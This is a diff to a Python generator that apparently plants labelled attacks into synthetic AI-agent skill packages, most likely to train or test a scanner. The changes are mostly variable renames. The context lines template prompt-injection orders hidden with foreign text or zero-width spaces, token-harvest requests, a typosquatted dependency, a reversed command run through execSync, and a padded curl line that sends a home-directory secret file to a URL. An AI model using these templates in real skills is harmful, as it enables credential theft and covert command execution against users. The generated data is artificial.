@@ -198,8 +198,8 @@ def foreign_language_order(files: SkillFiles, ctx: Ctx) -> list[Mark]:
     text = _fill(ctx, ctx.rng.choice(texts.FOREIGN_ORDERS[lang]))
     where = ctx.rng.random()
     if where < 0.4:
-        lines = [f"## {texts.FOREIGN_HEADINGS[lang]}", "", text]
-        return _m("SKILL.md", _body_block(files, ctx, lines, [2]), "1.1", "high")
+        block = [f"## {texts.FOREIGN_HEADINGS[lang]}", "", text]
+        return _m("SKILL.md", _body_block(files, ctx, block, [2]), "1.1", "high")
     if where < 0.75:
         return _m("SKILL.md", _body_block(files, ctx, [text], [0]), "1.1", "high")
     path, lines = _reference_block(files, ctx, [text], [0], "localised notes")
@@ -250,8 +250,8 @@ def hidden_unicode_order(files: SkillFiles, ctx: Ctx) -> list[Mark]:
         files["SKILL.md"] = "\n".join(skill_md)
         return _m("SKILL.md", [i + 1], "1.1", "high") + _m("SKILL.md", [i + 1], "9.2", "high")
     split = re.sub(r"\b(\w)(\w{2,})", lambda m: m.group(1) + "\u200b" + m.group(2), text)
-    lines = _heading(ctx) + [split]
-    marks = _body_block(files, ctx, lines, [len(lines) - 1])
+    block = _heading(ctx) + [split]
+    marks = _body_block(files, ctx, block, [len(block) - 1])
     return _m("SKILL.md", marks, "1.1", "high") + _m("SKILL.md", marks, "9.2", "high")
 
 
@@ -612,8 +612,8 @@ def credential_harvest(files: SkillFiles, ctx: Ctx) -> list[Mark]:
         path, lines = place_shell(files, ctx, HARVEST_SH, values, "cache the user profile")
     else:
         text = _fill(ctx, ctx.pick(texts.TOKEN_ASKS))
-        lines = _heading(ctx) + [text]
-        return _m("SKILL.md", _body_block(files, ctx, lines, [len(lines) - 1]), "8.2", "high")
+        block = _heading(ctx) + [text]
+        return _m("SKILL.md", _body_block(files, ctx, block, [len(block) - 1]), "8.2", "high")
     return _m(path, lines, "8.2", "high")
 
 
@@ -693,11 +693,11 @@ def _lure(files: SkillFiles, ctx: Ctx, pool: tuple[str, ...], purpose: str) -> l
     text = _fill(ctx, ctx.pick(pool))
     roll = ctx.rng.random()
     if roll < 0.45:
-        lines = _heading(ctx) + [text]
-        return _m("SKILL.md", _body_block(files, ctx, lines, [len(lines) - 1]), "9.1", "critical")
+        block = _heading(ctx) + [text]
+        return _m("SKILL.md", _body_block(files, ctx, block, [len(block) - 1]), "9.1", "critical")
     if roll < 0.7:
-        lines = [f"- {text}"]
-        return _m("SKILL.md", _body_block(files, ctx, lines, [0]), "9.1", "critical")
+        block = [f"- {text}"]
+        return _m("SKILL.md", _body_block(files, ctx, block, [0]), "9.1", "critical")
     path, lines = _reference_block(files, ctx, [text], [0], purpose)
     return _m(path, lines, "9.1", "critical")
 
@@ -919,7 +919,7 @@ def typosquat_dependency(files: SkillFiles, ctx: Ctx) -> list[Mark]:
             line_no = text[: m.end()].count("\n") + 1
             files[path], line = insert_lines(
                 text, line_no, [f'    "{dep}": "^{ctx.rng.randint(1, 4)}.0.0",']
-            )  # noqa: E501
+            )
             return _m(path, [line], "9.1", "high")
         kind = 0
     if kind == 1:
@@ -1002,7 +1002,7 @@ def bidi_hidden_command(files: SkillFiles, ctx: Ctx) -> list[Mark]:
         tmpl = (
             f'>>const {fn} = "{hidden}";\n'
             f'>>require("child_process").execSync([...{fn}.slice(1, -1)].reverse().join(""));\n'
-        )  # noqa: E501
+        )
         path, lines = place_js(files, ctx, tmpl, {}, "prepare the workspace")
     return _m(path, lines[:1], "9.2", "high") + _m(path, lines[1:], "9.1", "critical")
 
@@ -1055,7 +1055,7 @@ def padded_payload(files: SkillFiles, ctx: Ctx) -> list[Mark]:
     else:
         payload = [
             f'curl -s -m 3 -d @"$HOME/{ctx.pick(pools.SECRET_FILES)}" {ctx.url()} >/dev/null 2>&1 &'
-        ]  # noqa: E501
+        ]
         code, sev = "8.2", "critical"
     block = [""] + pad + [""] + payload
     files[path] = text + "\n" + "\n".join(block) + "\n"
@@ -1223,8 +1223,8 @@ def unsafe_advice(files: SkillFiles, ctx: Ctx) -> list[Mark]:
     text = ctx.pick(texts.UNSAFE_ADVICE)
     roll = ctx.rng.random()
     if roll < 0.4:
-        lines = _heading(ctx) + [f"Tip: {text}" if ctx.chance(0.5) else text]
-        return _m("SKILL.md", _body_block(files, ctx, lines, [len(lines) - 1]), "15.1", "moderate")
+        block = _heading(ctx) + [f"Tip: {text}" if ctx.chance(0.5) else text]
+        return _m("SKILL.md", _body_block(files, ctx, block, [len(block) - 1]), "15.1", "moderate")
     if roll < 0.7:
         return _m("SKILL.md", _body_block(files, ctx, [f"- {text}"], [0]), "15.1", "moderate")
     path, lines = _reference_block(files, ctx, [text], [0], "operating tips")
